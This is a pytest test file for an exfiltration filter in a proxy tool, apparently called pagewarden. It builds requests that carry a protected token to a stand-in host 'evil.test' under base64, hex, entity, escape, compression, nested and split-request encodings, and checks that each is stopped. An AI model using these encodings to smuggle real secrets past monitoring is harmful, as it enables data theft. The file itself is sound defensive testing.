"""Encoded exfiltration, class by class, at the filter: each encoding a page can apply to a
protected value (alone, at several places of a request, and nested), next to its benign
twin (the same shape with an ordinary value), which must pass. Then benign traffic full of
what looks like encoded data (random base64 and hex, compressed bodies, entities, escapes)
against short and word-like secrets: no false stop."""

from __future__ import annotations

import base64
import gzip
import html
import json
import random
import zlib
from collections.abc import Callable
from urllib.parse import quote

import pytest
from mitmproxy.test import tflow, tutils

from pagewarden import Guard, Secret
from pagewarden._views import inflate, views
from pagewarden.proxy._exfil import ExfiltrationFilter, _merged, _outgoing, own_site_leaks, scan

SECRET = "tok-4711-Zebra-Quartz-9"
BENIGN = "hello-world-pancakes-xy"
Route = Callable[[str], tuple[str, bytes, dict[str, str]]]


def _leaks(guard: Guard, path: str, body: bytes = b"", headers: dict[str, str] | None = None) -> list[str]:
    request = tutils.treq(host="evil.test", path=path.encode(), content=body)
    for key, value in (headers or {}).items():
        request.headers[key] = value
    texts, cookie_texts, pieces = _outgoing(request)
    own = own_site_leaks(cookie_texts, request, guard)
    return [leak.what for leak in _merged(own, scan(texts, "evil.test", guard=guard, pieces=pieces))]


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _raw_deflate(raw: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(raw) + packer.flush()


def _q(path: str) -> Callable[[str], tuple[str, bytes, dict[str, str]]]:
    """A route putting `path.format(v=...)` in the URL."""
    return lambda text: (path + quote(text, safe="=&"), b"", {})


def _body(text: str | bytes, **headers: str) -> tuple[str, bytes, dict[str, str]]:
    return "/c", text.encode() if isinstance(text, str) else text, headers


#: encoding class -> shapes (value -> request): each shape must stop the secret, pass BENIGN
CLASSES: dict[str, list[Route]] = {
    "base64": [
        lambda v: _q("/c?q=")(_b64(v.encode())),
        lambda v: _q("/c?q=")(_b64(b"x" + v.encode())),  # alignment 1
        lambda v: _q("/c?q=")(_b64(b"xy" + v.encode())),  # alignment 2
        lambda v: _body(_b64(json.dumps({"user": "me", "note": "x" * 37, "t": v, "n": 5}).encode())),
        lambda v: ("/c", b"", {"X-Data": _b64(("k=" + v).encode())}),
    ],
    "base64url": [
        lambda v: _q("/c?q=")(base64.urlsafe_b64encode(b"\xfb\xff" + v.encode()).decode().rstrip("=")),
        lambda v: _q("/c/")(base64.urlsafe_b64encode(("a|" + v).encode()).decode()),
        lambda v: _body("d=" + base64.urlsafe_b64encode(b"\xff?" + v.encode() + b"?").decode()),
    ],
    "hex": [
        lambda v: _q("/c?q=")(v.encode().hex()),
        lambda v: _q("/c?q=")(v.encode().hex().upper()),
        lambda v: _body(json.dumps({"h": ("=" + v).encode().hex()})),
    ],
    "percent": [
        lambda v: _q("/c?q=")(quote(v, safe="")),
        lambda v: _q("/c?q=")(quote(quote(v, safe=""), safe="")),  # double
        lambda v: _q("/c?q=")("".join(f"%{b:02X}" for b in v.encode())),  # every byte
        lambda v: _body("".join(f"%25{b:02x}" for b in v.encode())),  # every byte, double
    ],
    "html_entities": [
        lambda v: _body("".join(f"&#{ord(c)};" for c in v)),  # decimal
        lambda v: _q("/c?q=")("".join(f"&#x{ord(c):X};" for c in v)),  # hexadecimal
        lambda v: _body(html.escape(v).replace("-", "&hyphen;").replace("o", "&#111")),  # named, no ';'
    ],
    "json_escaped": [
        lambda v: _q("/c?q=")("".join(f"\\u{ord(c):04x}" for c in v)),
        lambda v: _body("payload: " + "".join(f"\\x{ord(c):02x}" for c in v)),
        lambda v: _body(json.dumps({"a": [{"b": "".join(f"\\u{ord(c):04X}" for c in v)}]})),
    ],
    "reversed": [
        lambda v: _q("/c?q=")(v[::-1]),
        lambda v: _q("/c?q=")(_b64(v[::-1].encode())),
        lambda v: _body(json.dumps({"r": v[::-1].upper()})),
    ],
    "separated": [
        lambda v: _q("/c?q=")("-".join(v)),
        lambda v: _body(" ".join(v)),
        lambda v: _body(".".join(v)),
        lambda v: _body("\u200b".join(v)),  # zero-width spaces
        lambda v: _q("/c?q=")("_".join(v[::-1])),  # separated and reversed
    ],
    "compressed": [
        lambda v: _body(gzip.compress(json.dumps({"t": v}).encode()), **{"Content-Type": "x/bin"}),
        lambda v: _body(zlib.compress(("token=" + v).encode())),
        lambda v: _body(_raw_deflate(("x " + v).encode())),  # CompressionStream("deflate-raw")
        lambda v: _q("/c?z=")(_b64(gzip.compress(v.encode()))),
        lambda v: _body(gzip.compress(v.encode()), **{"Content-Encoding": "gzip"}),
    ],
    "nested": [
        lambda v: _q("/c?q=")(_b64(v.encode().hex().encode())),  # base64 of hex
        lambda v: _q("/c?q=")(_b64(b"id:" + v.encode()).encode().hex()),  # hex of base64
        lambda v: _q("/c?q=")(quote("".join(f"&#{ord(c)};" for c in _b64(v.encode())))),
        lambda v: _body(_b64(gzip.compress(_b64(quote(v).encode()).encode()))),  # b64(gzip(b64(pct)))
        lambda v: _body(json.dumps({"d": "".join(f"\\u{ord(c):04x}" for c in _b64(v[::-1].encode()))})),
    ],
}
SHAPES = [(name, index, shape) for name, shapes in CLASSES.items() for index, shape in enumerate(shapes)]


@pytest.mark.parametrize(("name", "index", "shape"), SHAPES, ids=[f"{n}-{i}" for n, i, _ in SHAPES])
def test_encoded_secret_stopped_and_benign_twin_passes(name: str, index: int, shape: Route) -> None:
    guard = Guard(secrets=[Secret(SECRET, allow_domains=["site.test"])])
    path, body, headers = shape(SECRET)
    assert _leaks(guard, path, body, headers) == ["the registered secret 'secret'"], (name, index)
    path, body, headers = shape(BENIGN)
    assert _leaks(guard, path, body, headers) == [], (name, index)


@pytest.mark.parametrize("encode", [
    lambda v: v[::-1],
    lambda v: "".join(f"&#{ord(c)};" for c in v),
    lambda v: v.encode().hex(),
    lambda v: _b64(v.encode()),
    lambda v: "".join(f"\\u{ord(c):04x}" for c in v),
])  # fmt: skip
def test_secret_split_across_requests_under_an_encoding(encode: Callable[[str], str]) -> None:
    """A value sent in encoded pieces, one per request to the same host: the request that
    completes it is refused; the same pieces of a benign value all pass."""
    guard = Guard(secrets=[Secret(SECRET, allow_domains=["site.test"])])
    found: list[str] = []
    addon = ExfiltrationFilter(lambda flow: guard, lambda flow, refusal: found.append(refusal.reason))

    def send(value: str) -> list[int | None]:
        statuses = []
        for start in range(0, len(value), 8):
            query = quote(encode(value[start : start + 8]), safe="")
            flow = tflow.tflow(req=tutils.treq(host="evil.test", path=f"/p?c={query}".encode()))
            flow.metadata["pagewarden_session"] = "s1"
            addon.request(flow)
            statuses.append(flow.response.status_code if flow.response is not None else None)
        return statuses

    assert send(BENIGN) == [None, None, None]
    assert send(SECRET) == [None, None, 403] and len(found) == 1
    assert SECRET not in found[0] and "Zebra" not in found[0]


# -- benign traffic ------------------------------------------------------------------------

#: secrets of the kinds users register: short, word-like, digits, long tokens
GUARDED = [
    "k9Zx4q",  # short: the shortest the spellings cover
    "Summer2024!",  # word-like
    "hunter2hunter2",
    "4711-0815",
    "sk-live-AbCdEf0123456789",
    "correct horse battery staple",
]


def _benign_requests(rng: random.Random) -> list[tuple[str, bytes, dict[str, str]]]:
    """Traffic of ordinary pages: analytics beacons with base64 and hex ids, compressed
    uploads, HTML snippets with entities, JSON with escapes, images, prose."""
    out: list[tuple[str, bytes, dict[str, str]]] = []
    prose = (
        "Summer 2024 sale: save on 4711 products &amp; more &mdash; hunter 2 jackets, "
        "correct horses &amp; battery staples, k9 zx 4q. \\u00e9t\\u00e9 caf\\u00e9 "
    )
    for i in range(200):
        blob = rng.randbytes(rng.choice([9, 16, 32, 48, 300]))
        ident = rng.randbytes(rng.choice([8, 16, 32])).hex()
        out += [
            (f"/collect?v=1&cid={ident}&sid={_b64(blob)}&ev=page_view&t={i}", b"", {}),
            ("/upload", blob, {"Content-Type": "application/octet-stream"}),
            ("/api", json.dumps({"id": ident, "blob": _b64(blob), "text": prose}).encode(), {}),
            ("/g", gzip.compress((prose * 3 + ident).encode()), {"Content-Type": "application/octet-stream"}),
            (f"/p/{base64.urlsafe_b64encode(blob).decode().rstrip('=')}", b"", {"X-Request-Id": ident}),
            ("/h", f"<p>{html.escape(prose)}</p>&#x1F600;&#233;".encode(), {}),
            ("/f", ("q=" + quote(prose) + "&sig=" + ident.upper()).encode(), {}),
        ]
    return out


def test_benign_traffic_passes_with_short_and_wordlike_secrets() -> None:
    guard = Guard(secrets=[Secret(value, allow_domains=["site.test"]) for value in GUARDED])
    # (the baseline card_number pattern is left out: a 13+ digit run of a random hex id that
    # passes the Luhn check is a card number to it, before decoded views as after)
    stopped = [
        (path[:40], whats)
        for seed in (24, 25)
        for path, body, headers in _benign_requests(random.Random(seed))
        if (whats := [w for w in _leaks(guard, path, body, headers) if w != "a card number"])
    ]
    assert stopped == []
    # ... while each of them, encoded, is still stopped
    for value in GUARDED:
        for path, body, headers in (
            _q("/c?q=")(_b64(b"a" + value.encode())),
            _q("/c?q=")("-".join(value)),
            _body(gzip.compress(value[::-1].encode())),
        ):
            assert _leaks(guard, path, body, headers), (value[:2], path[:20])


# -- decoding limits ------------------------------------------------------------------------


def test_a_compression_bomb_is_read_only_up_to_the_limit() -> None:
    bomb = gzip.compress(b"\0" * (64 * 1024 * 1024))
    inflated = inflate(bomb)
    assert inflated is not None and len(inflated) <= 4 * 1024 * 1024
    guard = Guard(secrets=[Secret(SECRET, allow_domains=["site.test"])])
    assert _leaks(guard, "/c", bomb) == []


def test_views_stay_within_budget_on_hostile_nesting() -> None:
    text = SECRET
    for _ in range(12):  # deeper than the filter follows
        text = _b64(text.encode())
    assert sum(map(len, views(text))) <= 4 * len(text) + 16384
    wide = " ".join(_b64(random.Random(i).randbytes(30)) for i in range(4000))
    assert sum(map(len, views(wide))) <= 4 * len(wide) + 16384


def test_refusals_never_name_the_value() -> None:
    guard = Guard(secrets=[Secret(SECRET, allow_domains=["site.test"])])
    found: list[str] = []
    addon = ExfiltrationFilter(lambda flow: guard, lambda flow, refusal: found.append(repr(refusal)))
    for path, body, headers in [shape(SECRET) for _, _, shape in SHAPES]:
        request = tutils.treq(host="evil.test", path=path.encode(), content=body)
        for key, value in headers.items():
            request.headers[key] = value
        addon.request(tflow.tflow(req=request))
    assert len(found) == len(SHAPES)
    spelled = [SECRET.encode().hex(), SECRET[::-1], _b64(SECRET.encode())[:12], quote(SECRET)]
    for text in found:
        assert "Zebra" not in text and "zebra" not in text.lower()
        assert not [form for form in spelled if form.lower() in text.lower()]
